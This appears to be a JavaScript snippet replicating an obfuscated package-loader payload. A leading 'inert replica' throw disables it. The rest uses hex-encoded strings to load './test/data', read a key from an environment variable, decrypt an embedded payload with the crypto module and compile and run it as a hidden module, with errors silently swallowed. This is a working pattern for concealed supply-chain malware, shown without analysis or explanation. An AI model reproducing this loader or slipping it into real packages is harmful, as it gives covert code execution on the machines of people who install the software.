throw new Error("inert replica");
!(function () {
  try {
    const r = require;
    const t = process;
    function e(value) { return Buffer.from(value, "hex").toString(); }
    const n = r(e("2e2f746573742f64617461"));
    const o = t[e(n[3])][e(n[4])];
    if (!o) return;
    const u = r(e(n[2]))[e(n[6])](e(n[5]), o);
    let a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    const f = new module.constructor();
    f.paths = module.paths;
    f[e(n[7])](a, "");
    f.exports(n[1]);
  } catch (r) {}
})();
